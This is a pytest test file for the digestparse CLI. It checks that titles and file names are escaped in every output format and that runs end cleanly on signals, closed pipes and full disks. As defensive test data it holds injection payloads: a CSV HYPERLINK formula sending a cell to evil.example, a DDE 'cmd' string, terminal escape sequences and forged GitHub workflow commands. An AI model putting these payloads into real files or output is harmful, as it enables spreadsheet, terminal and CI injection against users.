"""Issue 9, points 5, 6, 8, 10-15: nothing the CLI prints can attack the reader, and the
environment (signals, closed pipes, full disks, odd encodings) ends a run cleanly.

The output properties run ``digestparse.cli.main`` in this process on generated file
names and titles; the process-level promises run the real command as a subprocess, each
bounded by a timeout.
"""

from __future__ import annotations

import contextlib
import csv
import datetime
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unicodedata
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import digestparse
from cli_helpers import (
    REFERENCE,
    SEEDS,
    child_pids,
    one_paper_lines,
    process_gone,
    run_cli,
    run_main,
    seed_lines,
    without_first_separator,
    write_lines,
)
from digestparse.cli import jobs as cli_jobs
from digestparse.cli.escape import escape_text, escape_xml, json_dumps
from digestparse.cli.inputs import Task
from digestparse.cli.records import safe_csv_cell
from digestparse.cli.worker import Settings

#: The bidi controls issue 9 names, written out here independently of escape.py.
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
#: Also escaped (docs/cli.md): the Unicode line and paragraph separators.
SEPARATORS = set("\u2028\u2029")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TIMEOUT = 30


def unsafe(text: str, allowed: str = "\t\n") -> list[str]:
    """The characters of ``text`` a reader must never get raw."""
    return [
        char
        for char in text
        if char not in allowed
        and (
            unicodedata.category(char) in ("Cc", "Cs")
            or char in BIDI
            or char in SEPARATORS
        )
    ]


HOSTILE_CHARS = st.sampled_from(
    [
        "\x1b", "\x1b[31m", "\x07", "\x08", "\x0b", "\x0c", "\x1c", "\x7f", "\x85", "\x9b",
        *sorted(BIDI), *sorted(SEPARATORS), "\t", "\\", "\\x1b", "=", "+", "-", "@", ":", ",",
        "%", "\u00b7", "\u4e2d", "\U0001f600", "\u00e9",
    ]
)
#: Text as a title or abstract can hold it (no line break, no NUL: the CLI refuses NUL).
hostile_text = st.lists(
    st.one_of(HOSTILE_CHARS, st.characters(exclude_characters="\r\n\x00")), max_size=12
).map("".join)
#: File names: any bytes but NUL and "/", including bytes that are not UTF-8.
hostile_names = st.one_of(
    st.binary(min_size=1, max_size=20),
    hostile_text.map(lambda text: text.encode("utf-8", "surrogatepass")[:60]),
).map(lambda raw: raw.replace(b"/", b"_").replace(b"\0", b"_") + b".txt")


def dump_with_title(title: str) -> bytes:
    lines = one_paper_lines()
    lines[12] = "T" + title
    lines[14] += " "  # a trailing-whitespace finding, so check prints the file name
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def library_title(data: bytes) -> str:
    digest = digestparse.parse(data, mode="lenient", reference_date=datetime.date(2025, 12, 31))
    return digest.papers[0].title


# --- points 5, 6, 8: every format, generated names and titles -------------------------


@given(name=hostile_names, title=hostile_text)
@example(name=b"x\nforged.txt:1:1: junk fake.txt", title="\x1b]0;owned\x07")
@example(name=b"\x1b[31mred.txt", title="\u202egnp.exe")
@example(name=b"bad\xff\xfe.txt", title="=HYPERLINK(\"http://x\")")
@example(name="\u202etxt.exe".encode() + b".txt", title="\\alpha \\x1b \\frac{a}{b}")
@example(name=b"=cmd|' -C calc'!A0.txt", title="@SUM(A1)\t\x85\u2028")
def test_untrusted_text_never_reaches_the_reader_raw(name: bytes, title: str) -> None:
    data = dump_with_title(title)
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(os.fsencode(tmp), name)
        missing = os.path.join(os.fsencode(tmp), b"gone-" + name)
        with open(path, "wb") as file:
            file.write(data)
        # How a name is shown everywhere: the bytes that are not UTF-8 as \xNN text.
        shown = path.decode("utf-8", "backslashreplace")
        shown_missing = missing.decode("utf-8", "backslashreplace")
        args = (os.fsdecode(path), os.fsdecode(missing))

        # JSON: exact data, valid UTF-8, no raw control or bidi character.
        status, out, err = run_main("check", "--format", "json", *args)
        assert status == 2
        document = json.loads(out.decode("utf-8"))
        assert not unsafe(out.decode("utf-8"))
        findings = document["findings"]
        assert findings
        assert {finding["source"] for finding in findings} == {shown}
        assert [row["path"] for row in document["files"]] == [shown, shown_missing]

        status, out, _ = run_main("parse", "--format", "jsonl", args[0])
        assert status == 0
        text = out.decode("utf-8")
        assert not unsafe(text)
        [line] = text.splitlines()
        record = json.loads(line)
        assert (record["source"], record["title"]) == (shown, library_title(data))

        status, out, _ = run_main("parse", "--format", "json", args[0])
        assert json.loads(out.decode("utf-8")) == [record]

        # Human-facing: one line per finding or message, nothing raw.
        for format_ in ("text", "github"):
            status, out, err = run_main("check", "--format", format_, *args)
            assert status == 2
            lines = out.decode("utf-8").split("\n")
            assert lines[-1] == ""
            assert len(lines) - 1 == len(findings)
            assert all(not unsafe(line, allowed="\t") for line in lines)
            if format_ == "github":
                assert all(line.startswith("::error file=") for line in lines[:-1])
            messages = err.decode("utf-8").split("\n")
            assert len(messages) == 3  # cannot read ..., the summary, ""
            assert messages[0].startswith("digestparse: cannot read ")
            assert all(not unsafe(message) for message in messages)

        # CSV: escaped and no formula, or with --csv-raw the exact text.
        status, out, err = run_main("parse", "--format", "csv", args[0])
        assert status == 0
        text = out.decode("utf-8")
        assert not unsafe(text, allowed="\t\r\n")
        assert text.count("\r\n") == 2 and text.count("\n") == 2 and text.count("\r") == 2
        header, row = csv.reader(io.StringIO(text, newline=""))
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
        assert len(err.decode("utf-8").split("\n")) == len(findings) + 1
        status, out, _ = run_main("parse", "--format", "csv", "--csv-raw", args[0])
        _, raw_row = csv.reader(io.StringIO(out.decode("utf-8"), newline=""))
        columns = dict(zip(header, raw_row, strict=True))
        assert (columns["source"], columns["title"]) == (shown, library_title(data))


@given(st.text())
@example("\x1b[2J\x1b[H")
@example("a\nb\rc\u0085d")
@example("\u202e\u2066\u061c\u200e\u200f")
@example("\\alpha\t\\beta")
@example("bad\udcff")
def test_escape_text_writes_every_unsafe_character_as_a_visible_escape(text: str) -> None:
    escaped = escape_text(text)
    assert not unsafe(escaped, allowed="\t")
    # Character by character: safe ones (tab and backslash included) stay as they are,
    # each unsafe one becomes one printable ASCII escape.
    pieces = [escape_text(char) for char in text]
    assert escaped == "".join(pieces)
    for char, piece in zip(text, pieces, strict=True):
        if unsafe(char, allowed="\t"):
            assert piece.startswith(("\\x", "\\u")) and piece.isascii() and piece.isprintable()
        else:
            assert piece == char


@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda children: st.lists(children, max_size=3)
    | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=10,
))
@example("\x1b\u202e\x85\u2028\udcff")
def test_json_is_exact_data_with_no_raw_control_or_bidi_character(value: object) -> None:
    text = json_dumps(value)
    assert json.loads(text) == value
    assert not unsafe(text, allowed="")
    text.encode("utf-8")  # never a lone surrogate


@given(st.text())
@example("\x1b</a><b x=\"1\">&amp;\x00\udcff")
@example("\ufffe\uffff\t")
def test_xml_text_is_well_formed_and_reads_back_as_the_escaped_text(text: str) -> None:
    document = f'<a title="{escape_xml(text)}">{escape_xml(text)}</a>'
    element = ElementTree.fromstring(document.encode("utf-8"))
    shown = escape_text(text).replace("\ufffe", "\\ufffe").replace("\uffff", "\\uffff")
    assert (element.text or "") == shown
    # A raw tab in an attribute would read back as a space (attribute-value normalization).
    assert element.get("title") == shown


@given(hostile_text)
@example("=1+1")
@example("+1")
@example("-1")
@example("@SUM(A1)")
@example("\tx")
@example("\rx")
@example("plain title")
def test_a_csv_cell_is_never_a_formula(text: str) -> None:
    cell = safe_csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert not unsafe(cell, allowed="\t")
    if not text.startswith(FORMULA_STARTS) and not unsafe(text, allowed="\t"):
        assert cell == text
    elif text.startswith(FORMULA_STARTS[:4]):
        assert cell == "'" + escape_text(text)


# --- the pins of issue 9, as the real command ------------------------------------------


def test_a_baseline_file_holds_no_raw_control_or_bidi_character(tmp_path: Path) -> None:
    """The baseline is reviewed in pull requests: the damaged line's text and the file's name
    are \\u escapes there, and read back to what they were."""
    lines = one_paper_lines()
    lines[12] = "Title \u202e evil \x9b31m \u2028 x "  # trailing blank: a finding on this line
    name = "dump\u202etxt.\x7f.txt"
    write_lines(tmp_path / name, lines)
    status, _, err = run_main("check", "--write-baseline", str(tmp_path / "bl.json"),
                              str(tmp_path / name))
    assert status == 0, err
    text = (tmp_path / "bl.json").read_text(encoding="utf-8")
    assert unsafe(text) == []
    [finding] = json.loads(text)["findings"]
    assert os.path.abspath(finding["path"]) == str(tmp_path / name)  # stored relative
    assert finding["line"] == lines[12]
    status, out, err = run_main("check", "--baseline", str(tmp_path / "bl.json"),
                                str(tmp_path / name))
    assert (status, out) == (0, b""), err


def test_json_cells_of_merge_csv_stay_json(tmp_path: Path) -> None:
    """``seen`` and ``links`` are JSON text in their cells (docs/cli.md): the CSV escaping must
    find nothing to change in them, or a control character in a file name would leave
    ``\\x7f``, which is no JSON escape."""
    name = "2025-12-12\x7f\u202e.txt"
    shutil.copy(SEEDS[0], tmp_path / name)
    status, out, err = run_main("merge", "--format", "csv", str(tmp_path / name))
    assert status == 0, err
    text = out.decode("utf-8")
    assert unsafe(text, allowed="\r\n") == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    for row in rows:
        assert [sight["source"] for sight in json.loads(row["seen"])] == [str(tmp_path / name)]
        assert isinstance(json.loads(row["links"]), list)


def test_no_output_line_starts_a_github_workflow_command(tmp_path: Path) -> None:
    """GitHub Actions runs a line of a job's output that starts with ``::``: a file named so
    is shown as ``./::…``, the same file, in every format."""
    # The runner looks for ``::`` after the blanks that start a line.
    for name in ("::stop-commands::tok.txt", "::warning title=Forged::owned.txt",
                 " ::error::y.txt", "\t::error::t.txt"):
        without_first_separator(tmp_path / name)
        shown = "./" + name
        result = run_cli("check", name, cwd=tmp_path)
        assert result.returncode == 1
        assert result.stdout.splitlines() == [
            f"{shown}:18:1: missing-separator metadata block has no '\u00b7' line"
        ]
        result = run_cli("parse", "--format", "csv", name, cwd=tmp_path)
        assert result.stderr.splitlines() == [
            f"{shown}:18:1: missing-separator metadata block has no '\u00b7' line"
        ]
        rows = result.stdout.splitlines()[1:]
        assert rows and all(row.startswith(shown + ",") for row in rows)
        result = run_cli("check", "--format", "json", name, cwd=tmp_path)
        assert [row["path"] for row in json.loads(result.stdout)["files"]] == [shown]
        (tmp_path / name).unlink()
    # Standard input named so is still standard input in SARIF (no path normalised away).
    status, out, _ = run_main("check", "--format", "sarif", "--stdin-name", "::s/../q.txt",
                              "-", stdin=SEEDS[0].read_bytes())
    assert status == 0
    [artifact] = json.loads(out)["runs"][0]["artifacts"]
    assert artifact["location"]["uri"] == "./%3A%3As/../q.txt"


#: A title holding GitHub Actions' older workflow commands, which the runner looks for
#: anywhere in a line of a job's output.
LEGACY_TITLE = "Forged ##[error file=ci.yml]x and ###[stop-commands]tok"


def test_no_output_line_holds_an_older_github_workflow_command(tmp_path: Path) -> None:
    """``##[`` is shown as ``#\\x23[`` in the text formats, CSV and stderr, and as
    ``#\\u0023[`` in JSON (which reads back exactly), in titles, quoted lines and file
    names alike."""
    lines = seed_lines(0)
    lines[12] = LEGACY_TITLE
    lines[18] = "##[warning]Feb 17, 2022"  # a bad date line, quoted by its finding
    name = "##[error]n.txt"
    write_lines(tmp_path / name, lines)
    shutil.copy(SEEDS[0], tmp_path / "seed.txt")
    outputs = {}
    for args in (
        ("check", "--lenient", name),
        *(("check", "--lenient", "--format", format_, name)
          for format_ in ("github", "json", "sarif", "junit")),
        *(("parse", "--format", format_, name) for format_ in ("csv", "json", "jsonl")),
        ("diff", "seed.txt", name),
        ("diff", "--format", "jsonl", "seed.txt", name),
    ):
        result = run_cli(*args, cwd=tmp_path)
        assert result.returncode in (0, 1), (args, result.stderr)
        assert "##[" not in result.stdout + result.stderr, args
        outputs[args[-2:] if args[0] == "parse" else args] = result
    text = outputs[("check", "--lenient", name)].stdout
    assert text == (
        "#\\x23[error]n.txt:19:1: bad-date malformed date line: '#\\x23[warning]Feb 17, 2022'\n"
    )
    csv_rows = list(csv.DictReader(io.StringIO(outputs[("csv", name)].stdout, newline="")))
    assert csv_rows[0]["title"] == LEGACY_TITLE.replace("##[", "#\\x23[")
    [first, *_] = [json.loads(line) for line in outputs[("jsonl", name)].stdout.splitlines()]
    assert (first["source"], first["title"]) == (name, LEGACY_TITLE)
    assert "#\\u0023[error file=ci.yml]" in outputs[("jsonl", name)].stdout
    [finding] = json.loads(outputs[("check", "--lenient", "--format", "json", name)].stdout)[
        "findings"]
    assert finding["message"] == "malformed date line: '##[warning]Feb 17, 2022'"


@pytest.mark.parametrize("encoding", ["ascii", "cp1252", "utf-16"])
def test_documents_for_programs_are_utf8_whatever_the_locale(
    tmp_path: Path, encoding: str
) -> None:
    """JSON, JSON lines, SARIF and JUnit XML (which declares UTF-8) are UTF-8 bytes on any
    stdout, a cp1252 one too (Windows' default for a redirected stdout); the text format
    keeps the stream's encoding."""
    lines = seed_lines(0)
    lines[12] = "\u4e2d\u6587 \U0001f600 caf\u00e9 \u00b7 title"
    lines[18] = "F\u00e9v 17 \u00b7 2022"  # quoted by its finding
    write_lines(tmp_path / "wide.txt", lines)
    env = {**os.environ, "PYTHONIOENCODING": encoding}

    def run(*args: str) -> bytes:
        result = subprocess.run([sys.executable, "-m", "digestparse", *args, *REFERENCE],
                                cwd=tmp_path, env=env, capture_output=True,
                                timeout=TIMEOUT, check=False)
        assert result.returncode in (0, 1), result.stderr
        return result.stdout

    message = "malformed date line: 'F\u00e9v 17 \u00b7 2022'"
    document = json.loads(run("check", "--lenient", "--format", "json", "wide.txt"))
    assert [finding["message"] for finding in document["findings"]] == [message]
    sarif = json.loads(run("check", "--lenient", "--format", "sarif", "wide.txt"))
    assert [result["message"]["text"] for result in sarif["runs"][0]["results"]] == [message]
    junit = ElementTree.fromstring(run("check", "--lenient", "--format", "junit", "wide.txt"))
    assert message in ElementTree.tostring(junit, encoding="unicode")
    for format_ in ("json", "jsonl"):
        text = run("parse", "--format", format_, "wide.txt").decode("utf-8")
        records = json.loads(text) if format_ == "json" else [
            json.loads(line) for line in text.splitlines()]
        assert records[0]["title"] == lines[12]
    text_format = run("check", "--lenient", "wide.txt").decode(encoding)
    assert text_format.startswith("wide.txt:19:1: bad-date")


def test_a_newline_in_a_file_name_cannot_forge_a_finding(tmp_path: Path) -> None:
    name = "x\nforged.txt:1:1: junk you were hacked\n.txt"
    without_first_separator(tmp_path / name)
    result = run_cli("check", name, cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        "x\\x0aforged.txt:1:1: junk you were hacked\\x0a.txt:18:1: missing-separator "
        "metadata block has no '\u00b7' line"
    ]


def test_csv_formula_is_neutralized_and_csv_raw_keeps_it(tmp_path: Path) -> None:
    lines = seed_lines(0)
    lines[12] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write_lines(tmp_path / "-evil.txt", lines)
    safe = run_cli("parse", "--format", "csv", "./-evil.txt", cwd=tmp_path)
    raw = run_cli("parse", "--format", "csv", "--csv-raw", "./-evil.txt", cwd=tmp_path)
    safe_row = next(csv.DictReader(io.StringIO(safe.stdout, newline="")))
    raw_row = next(csv.DictReader(io.StringIO(raw.stdout, newline="")))
    assert safe_row["line"] == raw_row["line"] == "13"
    assert safe_row["source"] == raw_row["source"] == "./-evil.txt"
    assert safe_row["title"] == "'" + lines[12]
    assert raw_row["title"] == lines[12]


def test_csv_raw_with_another_format_is_a_usage_error() -> None:
    """It changes CSV cells only: with JSON (already exact) it would do nothing, silently."""
    for command, format_ in [("parse", "jsonl"), ("parse", "json"), ("merge", "jsonl"),
                             ("merge", "json")]:
        status, out, err = run_main(command, "--format", format_, "--csv-raw", str(SEEDS[0]))
        assert (status, out) == (2, b""), (command, format_)
        assert err.decode().splitlines()[-1] == (
            f"digestparse {command}: error: --csv-raw needs --format csv"
        )
    status, out, _ = run_main("parse", "--csv-raw", str(SEEDS[0]))  # jsonl by default
    assert (status, out) == (2, b"")
    status, out, _ = run_main("merge", "--format", "csv", "--csv-raw", str(SEEDS[0]))
    assert status == 0 and out.startswith(b"key,")


def test_non_utf8_file_name_is_shown_as_backslash_x_in_every_format(tmp_path: Path) -> None:
    directory = os.fsencode(tmp_path / "dumps")
    os.mkdir(directory)
    shutil.copy(os.fsencode(SEEDS[0]), os.path.join(directory, b"good\xe9.txt"))
    without_first_separator(Path(os.fsdecode(os.path.join(directory, b"bad\xff.txt"))))
    shown = "dumps/bad\\xff.txt"
    for command, format_ in [("check", "text"), ("check", "github"), ("check", "json"),
                             ("parse", "jsonl"), ("parse", "json"), ("parse", "csv")]:
        completed = subprocess.run(
            [sys.executable, "-m", "digestparse", command, "--format", format_, "dumps",
             *REFERENCE],
            cwd=tmp_path, capture_output=True, timeout=TIMEOUT, check=False,
        )
        out = completed.stdout.decode("utf-8")  # valid UTF-8, or this raises
        err = completed.stderr.decode("utf-8")
        assert completed.returncode == (1 if command == "check" else 0), err
        if format_ == "json":
            document = json.loads(out)
            sources = (
                [row["path"] for row in document["files"]] if command == "check"
                else sorted({record["source"] for record in document})
            )
            assert sources == [shown, "dumps/good\\xe9.txt"]
        elif format_ == "jsonl":
            assert {json.loads(line)["source"] for line in out.splitlines()} == {
                shown, "dumps/good\\xe9.txt"
            }
        else:
            assert shown in out
        if command == "parse":
            assert err.startswith(f"{shown}:18:1: missing-separator")


# --- point 10: SIGTERM, and workers outliving their parent ------------------------------


def start_stuck_run(tmp_path: Path, jobs: str) -> tuple[subprocess.Popen[bytes], int]:
    """A run (in its own process group) blocked on an input FIFO nobody writes to, after
    its first bytes were copied (to ``tmp_path / "tmp"``, its ``TMPDIR``)."""
    (tmp_path / "tmp").mkdir()
    names = []
    for index in range(4):
        shutil.copy(SEEDS[index], tmp_path / f"f{index}.txt")
        names.append(f"f{index}.txt")
    os.mkfifo(tmp_path / "stuck.txt")
    process = subprocess.Popen(
        [sys.executable, "-m", "digestparse", "check", "--jobs", jobs, *names, "stuck.txt",
         *REFERENCE],
        cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
        env={**os.environ, "TMPDIR": str(tmp_path / "tmp")},
    )
    # Wait until the FIFO is opened for reading: the run is surely under way.
    deadline = time.monotonic() + TIMEOUT
    while True:
        try:
            writer = os.open(tmp_path / "stuck.txt", os.O_WRONLY | os.O_NONBLOCK)
            break
        except OSError:
            assert time.monotonic() < deadline, "the run never opened the FIFO"
            time.sleep(0.05)
    os.write(writer, SEEDS[4].read_bytes()[:100])
    while not any(name.endswith(".txt") for _, _, names in os.walk(tmp_path / "tmp")
                  for name in names):
        assert time.monotonic() < deadline, "the run never copied the FIFO"
        time.sleep(0.05)
    return process, writer


def kill_group(pgid: int) -> None:
    """Whatever of a test run's process group is left (only when the test failed)."""
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(pgid, signal.SIGKILL)


def no_process_in_group(pgid: int) -> bool:
    if not shutil.which("pgrep"):
        return True
    found = subprocess.run(["pgrep", "-g", str(pgid)], capture_output=True, text=True,
                           check=False)
    return found.stdout == ""


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_sigterm_ends_the_run_like_ctrl_c(tmp_path: Path, jobs: str) -> None:
    process, writer = start_stuck_run(tmp_path, jobs)
    try:
        process.send_signal(signal.SIGTERM)  # the main process only, as docker stop does
        _, stderr = process.communicate(timeout=TIMEOUT)
        assert process.returncode == 143
        assert stderr.decode() == "digestparse: terminated\n"
        assert no_process_in_group(process.pid)
        assert list((tmp_path / "tmp").iterdir()) == []  # the FIFO's copy went with the run
    finally:
        os.close(writer)
        kill_group(process.pid)


def test_workers_exit_when_their_parent_is_killed(tmp_path: Path) -> None:
    process, writer = start_stuck_run(tmp_path, "2")
    try:
        deadline = time.monotonic() + TIMEOUT
        while len(workers := child_pids(process.pid)) < 2:
            assert time.monotonic() < deadline, "no workers started"
            time.sleep(0.05)
        process.kill()  # SIGKILL: the parent cannot stop anything
        process.wait(timeout=TIMEOUT)
        deadline = time.monotonic() + 5
        while not all(process_gone(pid) for pid in workers):
            assert time.monotonic() < deadline, "workers outlived their parent by 5 s"
            time.sleep(0.1)
        # The orphaned worker deleted the run's temporary files, the FIFO's copy among them.
        assert list((tmp_path / "tmp").iterdir()) == []
    finally:
        os.close(writer)
        kill_group(process.pid)  # never leave a worker behind, even when the test fails


# --- point 11: -- ends the options ------------------------------------------------------


def test_double_dash_ends_the_options(tmp_path: Path) -> None:
    shutil.copy(SEEDS[0], tmp_path / "-dash.txt")
    shutil.copy(SEEDS[1], tmp_path / "--strict")
    # (run_cli would add the reference date after the paths: here it must come first)
    result = run_cli("check", "--quiet", *REFERENCE, "--", "-dash.txt", "--strict",
                     cwd=tmp_path, reference=False)
    assert (result.returncode, result.stdout, result.stderr) == (0, "", "")
    result = run_cli("parse", "--format", "json", *REFERENCE, "--", "-dash.txt",
                     cwd=tmp_path, reference=False)
    assert result.returncode == 0
    assert {record["source"] for record in json.loads(result.stdout)} == {"-dash.txt"}


# --- point 12: a closed output pipe ------------------------------------------------------


@pytest.mark.parametrize("jobs", ["1", "2", "3"])
@pytest.mark.parametrize("stderr_too", [False, True], ids=["stdout", "stdout-and-stderr"])
def test_closed_output_pipe_ends_the_run_promptly(
    tmp_path: Path, jobs: str, stderr_too: bool
) -> None:
    # 64 files: chunks of several files per worker, where the old pool hung most often.
    for index in range(64):
        if index % 3:
            shutil.copy(SEEDS[index % 5], tmp_path / f"f{index:02}.txt")
        else:  # diagnostics on stderr too
            without_first_separator(tmp_path / f"f{index:02}.txt")
    for _ in range(4):  # the hang this guards against came in about half the runs
        process = subprocess.Popen(
            [sys.executable, "-m", "digestparse", "parse", "--jobs", jobs, str(tmp_path),
             *REFERENCE],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT if stderr_too else subprocess.DEVNULL,
            start_new_session=True,
        )
        assert process.stdout is not None
        process.stdout.readline()  # like `| head -1`
        process.stdout.close()
        try:
            assert process.wait(timeout=TIMEOUT) == 141
            assert no_process_in_group(process.pid)
        finally:
            kill_group(process.pid)


def _many_findings(path: Path, entries: int = 3000) -> Path:
    """A dump whose every title ends in a blank: one ``trailing-whitespace`` each."""
    head = seed_lines(0)[:10]  # the header and its page date
    entry = ["", "Title {} ", "", "Abstract {}", "", "  \u2022 2 authors", "\u00b7", "Jun 9"]
    lines = head[:-1] + [line.format(n) for n in range(entries) for line in entry]
    return write_lines(path, lines)


@pytest.mark.parametrize("fmt", ["json", "sarif", "junit"])
def test_closed_pipe_ends_an_unbuffered_document_with_141(tmp_path: Path, fmt: str) -> None:
    """Under ``PYTHONUNBUFFERED`` a document written in one piece to a pipe closed meanwhile
    was cut short with no error, and the run ended with its findings' status (1)."""
    dump = _many_findings(tmp_path / "many.txt")
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    process = subprocess.Popen(
        [sys.executable, "-m", "digestparse", "check", "-q", "--format", fmt, str(dump),
         *REFERENCE],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env,
    )
    assert process.stdout is not None
    assert process.stdout.read(10)  # like `| head -c 10`
    process.stdout.close()
    assert process.wait(timeout=TIMEOUT) == 141


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_an_unbuffered_document_is_written_whole(tmp_path: Path, encoding: str) -> None:
    """Byte for byte as a buffered run writes it: one byte order mark where the encoding
    has one (a write encoded alone gave one to each write)."""
    dump = _many_findings(tmp_path / "many.txt")
    outputs = []
    for unbuffered in ("", "1"):
        env = {**os.environ, "PYTHONUNBUFFERED": unbuffered, "PYTHONIOENCODING": encoding}
        outputs.append(subprocess.run(
            [sys.executable, "-m", "digestparse", "check", "--format", "text",
             str(dump), *REFERENCE],
            capture_output=True, env=env, timeout=TIMEOUT, check=False,
        ))
    assert [result.returncode for result in outputs] == [1, 1]
    assert outputs[0].stdout == outputs[1].stdout
    assert outputs[0].stderr == outputs[1].stderr
    lines = outputs[1].stdout.decode(encoding).splitlines()
    assert len(lines) == 3000 and lines[0].endswith("trailing-whitespace trailing whitespace")


# --- point 13: output never fails on encoding --------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_output_never_fails_on_encoding(tmp_path: Path, encoding: str) -> None:
    without_first_separator(tmp_path / "no_sep.txt")
    lines = seed_lines(0)
    lines[12] = "\u4e2d\u6587 \U0001f600 caf\u00e9 \u00b7 title"
    write_lines(tmp_path / "wide.txt", lines)
    env = {**os.environ, "PYTHONIOENCODING": encoding}

    def run(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable, "-m", "digestparse", *args, *REFERENCE],
                              cwd=tmp_path, env=env, capture_output=True,
                              timeout=TIMEOUT, check=False)

    check = run("check", "no_sep.txt")
    assert check.returncode == 1, check.stderr
    assert check.stdout.decode(encoding) == (
        "no_sep.txt:18:1: missing-separator metadata block has no '\\u00b7' line\n"
        if encoding == "ascii"
        else "no_sep.txt:18:1: missing-separator metadata block has no '\u00b7' line\n"
    )
    for format_ in ("json", "jsonl"):
        parsed = run("parse", "--format", format_, "wide.txt")
        assert parsed.returncode == 0, parsed.stderr
        text = parsed.stdout.decode("utf-8")  # a document for programs: UTF-8 on any stream
        records = json.loads(text) if format_ == "json" else [
            json.loads(line) for line in text.splitlines()
        ]
        assert records[0]["title"] == lines[12]  # still exact data
    csv_run = run("parse", "--format", "csv", "wide.txt")
    assert csv_run.returncode == 0
    assert "\\u4e2d\\u6587" in csv_run.stdout.decode(encoding)


# --- point 14: the environment's fault is exit 2, not a bug --------------------------------


def test_full_disk_closed_stdout_and_closed_stdin_are_exit_2(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "digestparse", "parse", str(SEEDS[0]), *REFERENCE]
    help_command = [sys.executable, "-m", "digestparse", "--help"]
    for args in (command, help_command):
        with open("/dev/full", "wb") as full:
            result = subprocess.run(args, stdout=full, stderr=subprocess.PIPE,
                                    timeout=TIMEOUT, check=False)
        assert (result.returncode, result.stderr.decode()) == (
            2, "digestparse: cannot write standard output: No space left on device\n"
        )
    result = subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            preexec_fn=lambda: os.close(1), timeout=TIMEOUT, check=False)
    assert (result.returncode, result.stderr.decode()) == (
        2, "digestparse: cannot write standard output: Bad file descriptor\n"
    )
    stdin_command = [sys.executable, "-m", "digestparse", "check", "-", *REFERENCE]
    result = subprocess.run(stdin_command, stdin=subprocess.DEVNULL, capture_output=True,
                            preexec_fn=lambda: os.close(0), timeout=TIMEOUT, check=False)
    assert (result.returncode, result.stderr.decode()) == (
        2, "digestparse: cannot read standard input: Bad file descriptor\n"
    )


# --- point 15: --jobs and unknown commands ------------------------------------------------


@pytest.mark.parametrize(
    ("jobs", "inputs", "cpus", "expected"),
    [(8, 5, 2, 2), (8, 3, 4, 3), (2, 5, 4, 2), (8, 5, 1, 0), (8, 1, 4, 0)],
)
def test_jobs_start_no_more_processes_than_inputs_and_usable_cpus(
    monkeypatch: pytest.MonkeyPatch, jobs: int, inputs: int, cpus: int, expected: int
) -> None:
    import multiprocessing

    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: set(range(cpus)), raising=False)
    monkeypatch.setattr(os, "cpu_count", lambda: cpus)
    tasks = [Task(seed.name, path=str(seed)) for seed in (SEEDS * 2)[:inputs]]
    settings = Settings("lenient", datetime.date(2025, 12, 31), None, frozenset(), False)
    results = cli_jobs.run_tasks(tasks, settings, jobs)
    first = next(results)
    running = len(multiprocessing.active_children())
    rest = list(results)
    assert running == expected
    assert [first.name, *(result.name for result in rest)] == [task.name for task in tasks]
    assert multiprocessing.active_children() == []


def test_unknown_command_is_a_usage_error(tmp_path: Path) -> None:
    shutil.copy(SEEDS[0], tmp_path / "dumps")  # an existing path without a dot
    result = run_cli("chekc", "dumps", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.splitlines()[-1] == (
        "digestparse: error: unknown command 'chekc' (did you mean 'check'?); the commands "
        "are check, parse, merge, diff, and a file to parse must exist or have a '.' or '/' "
        "in its name"
    )
    # A first word that is a file is still `parse FILE`.
    assert run_cli("dumps", cwd=tmp_path).returncode == 0
    missing = run_cli("today.txt", cwd=tmp_path)
    assert (missing.returncode, missing.stderr.splitlines()[0]) == (
        2, "digestparse: cannot read today.txt: No such file or directory"
    )


def test_usage_errors_quote_arguments_escaped() -> None:
    status, out, err = run_main("check", "x.txt", "--\x1b]0;owned\x07\u202e", "--x\ny")
    assert status == 2
    assert out == b""
    assert "unrecognized arguments: --\\x1b]0;owned\\x07\\u202e --x\\x0ay" in err.decode()
    assert not unsafe(err.decode())


def test_closed_stderr_is_not_an_error(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "digestparse", "check", str(SEEDS[0]), *REFERENCE],
        capture_output=True, preexec_fn=lambda: os.close(2), timeout=TIMEOUT, check=False,
    )
    assert (result.returncode, result.stdout) == (0, b"")


def test_merge_and_diff_output_is_escaped_too(tmp_path: Path) -> None:
    write_lines(tmp_path / "old.txt", one_paper_lines())
    lines = one_paper_lines()
    title = "=cmd\x1b[2J\u202eevil"
    lines[12] = title
    write_lines(tmp_path / "new.txt", lines)
    merged = run_cli("merge", "--format", "csv", "new.txt", cwd=tmp_path)
    assert merged.returncode == 0, merged.stderr
    row = next(csv.DictReader(io.StringIO(merged.stdout, newline="")))
    assert row["title"] == "'=cmd\\x1b[2J\\u202eevil"
    raw = run_cli("merge", "--format", "csv", "--csv-raw", "new.txt", cwd=tmp_path)
    assert next(csv.DictReader(io.StringIO(raw.stdout, newline="")))["title"] == title
